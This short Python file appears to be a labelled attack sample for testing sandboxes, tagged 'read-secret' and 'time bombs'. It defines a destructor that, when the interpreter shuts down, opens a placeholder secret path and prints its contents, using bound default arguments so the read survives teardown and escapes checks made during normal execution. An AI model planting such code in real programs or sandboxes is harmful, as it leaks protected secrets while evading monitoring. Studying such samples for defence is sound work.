# technique: a destructor that runs when the interpreter ends
# goal: read-secret
# source: time bombs
class Last:
    def __del__(self, get=open, say=print):
        say(get('@SECRET@').read(), flush=True)


last = Last()
